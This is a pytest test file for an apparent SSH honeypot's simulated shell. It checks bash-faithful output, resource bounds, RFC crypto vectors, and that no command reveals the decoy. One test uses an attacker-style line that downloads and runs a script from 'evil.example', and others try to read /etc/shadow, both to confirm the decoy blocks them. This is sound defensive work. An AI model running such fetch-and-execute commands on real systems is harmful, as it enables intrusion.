# ruff: noqa: E501 (answers and lists of names are compared as they are)
"""The shell that runs nothing."""

from __future__ import annotations

import os
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.decoys.events import MAX_LINE, Recorder
from decnet.decoys.host.hardware import blocks
from decnet.decoys.host.world import World
from decnet.decoys.persona import Persona
from decnet.decoys.shell.at_once import run_at_once
from decnet.decoys.shell.commands import command_names
from decnet.decoys.shell.logging_in import come
from decnet.decoys.shell.programs import PROGRAMS
from decnet.decoys.shell.state import MOST_OUTPUT, Answer, Shell
from decnet.decoys.ssh.kex import prime
from decnet.decoys.ssh.sntrup import P, Q, decode, encode
from decnet.decoys.ssh.umac import Umac
from decnet.decoys.visitors import MOST_CHANGES

FORBIDDEN = ("decnet", "decky", "deckies", "decoy", "honeypot", "canary", "asyncio", "traceback")
PIECES = "abc /'\"\\$(){}|&;<>*?~#\n-01.=[]`"
RELEASES = ("debian-12", "ubuntu-22.04", "rocky-9", "openwrt-21.02", "freebsd-14.0", "synology-dsm-7")


def persona(release: str = "debian-12") -> Persona:
    return Persona(
        "ssh", "web01", "linux", release, "", "ab" * 16, ((22, "tcp"),), {}, "192.0.2.7", "00:50:56:01:02:03"
    )


def shell_of(output: int, release: str = "debian-12", user: str = "root") -> Shell:
    return Shell(World(persona(release)), user, Recorder(output).session("192.0.2.9", 4000))


@pytest.fixture
def shell() -> Iterator[Shell]:
    out, into = os.pipe()
    os.set_blocking(out, False)
    yield shell_of(into)
    os.close(out)
    os.close(into)


@pytest.mark.parametrize(
    ("line", "out", "error", "status"),
    [
        ("cd /nope && pwd || echo no", "no\n", "bash: line 1: cd: /nope: No such file or directory\n", 0),
        ("echo a b | wc; false", "      1       2       4\n", "", 1),
        ("echo $USER '$USER' \"$HOME\" $(whoami)", "root $USER /root root\n", "", 0),
        ("cat /etc/passwd | grep root | cut -d: -f7", "/bin/bash\n", "", 0),
        ("echo hi > /tmp/x && cat /tmp/x && rm /tmp/x; cat /tmp/x", "hi\n", "cat: /tmp/x: No such file or directory\n", 1),
        ("nope 2>/dev/null; echo $?", "127\n", "", 0),
        ("ls /etc/ssh | head -n 6", "moduli\nssh_config\nssh_config.d\nsshd_config\nsshd_config.d\nssh_host_ecdsa_key\n", "", 0),
        ("echo 'open", "", "bash: -c: line 1: unexpected EOF while looking for matching `''\n", 2),
        ("| cat", "", "bash: -c: line 1: syntax error near unexpected token `|'\nbash: -c: line 1: `| cat'\n", 2),
        ("X=5; echo $X${X}", "55\n", "", 0),
        ("printf 'a\\nb\\n' | tail -n 1", "b\n", "", 0),
        ("cd /var/log; ls *.log", "auth.log\ncron.log\ndpkg.log\nkern.log\nuser.log\n", "", 0),
    ],
)  # fmt: skip
def test_a_line_gives_what_bash_gives(shell: Shell, line: str, out: str, error: str, status: int) -> None:
    assert run_at_once(shell, line) == Answer(out, error, status)


def test_nothing_out_there_can_be_reached(shell: Shell) -> None:
    answer = run_at_once(shell, "wget http://evil.example/x.sh && sh x.sh")

    assert (
        "unable to resolve host address ‘evil.example’" in answer.error
        and answer.status == 4
        and answer.delay > 0
    )


def test_a_user_reads_no_secrets_and_writes_nowhere_but_at_home() -> None:
    out, into = os.pipe()
    shell = shell_of(into, user="admin")
    os.close(out)

    assert run_at_once(shell, "cat /etc/shadow").error == "cat: /etc/shadow: Permission denied\n"
    assert run_at_once(shell, "echo x > /etc/x").error == "bash: line 1: /etc/x: Permission denied\n"
    os.close(into)


def test_a_line_that_grows_without_end_is_bounded(shell: Shell) -> None:
    line = "echo " + "a" * 1000
    for _ in range(6):
        line = f"echo $({line})$({line})"
    assert len(run_at_once(shell, line).out) <= MOST_OUTPUT
    assert len(run_at_once(shell, ";".join(["cat /proc/cpuinfo"] * 390)).out) <= MOST_OUTPUT


def test_what_an_intruder_writes_is_bounded(shell: Shell) -> None:
    for number in range(MOST_CHANGES):
        shell.put(f"/tmp/{number}", b"x", 1)

    assert "No space left on device" in run_at_once(shell, "echo x > /tmp/more").error


@settings(max_examples=300)
@given(st.lists(st.sampled_from([*PIECES, "ls ", "echo ", "$(", "cat "]), max_size=40))
def test_no_line_breaks_the_shell(parts: list[str]) -> None:
    out, into = os.pipe()
    try:
        assert isinstance(run_at_once(shell_of(into), "".join(parts)), Answer)
    finally:
        os.close(out)
        os.close(into)


@pytest.mark.parametrize("release", RELEASES)
def test_no_command_and_no_file_identifies_the_decoy(release: str) -> None:
    out, into = os.pipe()
    shell = shell_of(into, release)
    os.close(out)
    said = ""
    for name in (*command_names(), *PROGRAMS, "set", "help", "history"):
        for arguments in ("", " -a", " --help", " /etc/passwd", " /nope", " http://x.example/a"):
            # The real help of python names its modules.
            if name not in ("exit", "logout") and name + arguments != "python3 --help":
                answer = run_at_once(shell, name + arguments)
                said += answer.out + answer.error
    for path, node in World(persona(release)).nodes.own.items():
        said += path + node.content.decode("latin-1")
    os.close(into)
    assert [word for word in FORBIDDEN if word in said.lower()] == []


def test_events_are_bounded_lines_and_a_deaf_reader_stops_nothing() -> None:
    out, into = os.pipe()
    recorder = Recorder(into)
    session = recorder.session("192.0.2.9", 1)

    for _ in range(500):
        session.record("command", input="\U0001f600\x00" * 2000, more="\ud800" * 2000)

    os.set_blocking(out, False)
    lines = os.read(out, 1 << 20).split(b"\n")
    os.close(out)
    os.close(into)
    assert len(lines) > 2 and all(len(line) < MAX_LINE for line in lines)


def test_umac_is_that_of_its_rfc() -> None:
    # RFC 4418, appendix.
    umac = Umac(b"abcdefghijklmnop", 8)
    expected = {b"": "6e155fad26900be1", b"aaa": "44b5cb542f220104", b"a" * 1024: "26bf2f5d60118bd9",
                b"a" * 32768: "27f8ef643b0d118d", b"abc" * 500: "d4cf26ddefd5c01a"}  # fmt: skip
    assert {data: umac.tag(data, b"bcdefghi").hex() for data in expected} == expected


def test_the_groups_are_the_primes_of_their_rfc() -> None:
    assert prime(2048).bit_length() == 2048 and pow(2, prime(2048) - 1, prime(2048)) == 1
    assert f"{prime(4096):x}".endswith("4063199ffffffffffffffff")


def test_a_polynomial_survives_its_coding() -> None:
    values = [number * 37 % Q for number in range(P)]
    assert len(encode(values, [Q] * P)) == 1158 and decode(encode(values, [Q] * P), [Q] * P) == values


def test_the_visitors_own_login_is_in_auth_log(shell: Shell) -> None:
    come(shell)
    last = run_at_once(shell, "tail -n 2 /var/log/auth.log").out.splitlines()
    size = run_at_once(shell, "stat -c %s /var/log/auth.log; wc -c < /var/log/auth.log").out.split()

    assert (
        f"sshd[{shell.visit.server}]: Accepted password for root from {shell.session.source} port" in last[0]
    )
    assert "session opened for user root(uid=0)" in last[1] and size[0] == size[1]


def test_a_file_is_on_the_disk_that_is_mounted_there(shell: Shell) -> None:
    (root,) = (block.number for block in blocks(shell.world.machine) if block.mounted == "/")
    shown = run_at_once(shell, "stat -c %d /etc/hostname /proc/1; stat /etc/hostname").out.splitlines()

    assert shown[:2] == [str(root[0] << 8 | root[1]), "22"] and f"Device: {root[0]},{root[1]}\t" in shown[4]
